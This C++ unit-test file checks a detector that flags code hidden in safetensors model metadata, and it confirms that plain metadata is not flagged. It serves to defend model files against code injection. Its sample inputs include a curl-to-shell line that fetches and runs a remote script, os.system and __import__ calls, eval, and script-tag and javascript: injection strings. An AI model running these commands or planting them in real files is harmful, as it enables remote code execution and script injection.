#include "formats/safetensors/metadata_text.h"

#include <gtest/gtest.h>

namespace aigis::formats::safetensors {
namespace {

TEST(MetadataText, FlagsCode) {
  EXPECT_EQ(CodeLikeKind("import os; os.system('id')"), "python");
  EXPECT_EQ(CodeLikeKind("__import__('os')"), "python");
  EXPECT_EQ(CodeLikeKind("curl http://x/a.sh | sh"), "shell");
  EXPECT_EQ(CodeLikeKind("<script>alert(1)</script>"), "html");
  EXPECT_EQ(CodeLikeKind("javascript:alert(1)"), "javascript");
  EXPECT_EQ(CodeLikeKind("echo $(whoami)"), "shell");
  std::string_view ev;
  EXPECT_EQ(CodeLikeKind("x = eval(y)", &ev), "python");
  EXPECT_EQ(ev, "eval(");
}

TEST(MetadataText, IgnoresData) {
  EXPECT_EQ(CodeLikeKind("pt"), "");
  EXPECT_EQ(CodeLikeKind(R"({"ss_network_dim": "32", "ss_learning_rate": "1e-4"})"), "");
  EXPECT_EQ(CodeLikeKind("Apache-2.0"), "");
  EXPECT_EQ(CodeLikeKind("retrieval(query) based model"), "");
  EXPECT_EQ(CodeLikeKind("prefetch(4) in the data loader"), "");
  EXPECT_EQ(CodeLikeKind("x | shape | bashful"), "");
  EXPECT_EQ(CodeLikeKind("curl https://x/a | sh"), "shell");
}

}  // namespace
}  // namespace aigis::formats::safetensors
